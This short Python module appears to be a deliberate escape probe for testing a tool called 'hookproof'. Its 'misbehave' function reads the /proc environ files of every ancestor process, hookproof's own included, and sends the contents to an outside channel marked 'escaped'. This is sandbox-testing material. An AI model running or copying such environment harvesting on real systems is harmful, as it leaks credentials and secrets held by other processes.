"""Reads the environment of the processes above it, hookproof's own among them."""

from __future__ import annotations

from manner_help import ancestors, tell


def misbehave(outside: str, _mark: str) -> None:
    found = []
    for pid in ancestors():
        try:
            with open(f"/proc/{pid}/environ", "rb") as file:
                found.append(file.read())
        except OSError:
            continue
    tell(outside, "escaped", b"\n".join(found))
